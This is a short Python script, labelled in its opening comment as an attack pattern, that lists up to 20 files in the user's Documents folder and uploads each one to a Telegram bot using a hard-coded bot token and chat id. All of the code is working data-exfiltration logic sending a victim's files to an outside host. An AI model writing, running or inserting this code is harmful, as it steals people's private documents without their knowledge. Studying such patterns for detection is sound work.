# Attack pattern: collected files uploaded to a hard-coded Telegram bot (token and chat id in the code).
import os

import requests

TOKEN = "5829301746:AAH3kQ9fZx7LmP2rV8tW1yN6bC4dE0gJsUo"
CHAT = "-1001234567890"


def ship(path):
    with open(path, "rb") as handle:
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT}, files={"document": handle})


for name in os.listdir(os.path.expanduser("~/Documents"))[:20]:
    ship(os.path.join(os.path.expanduser("~/Documents"), name))
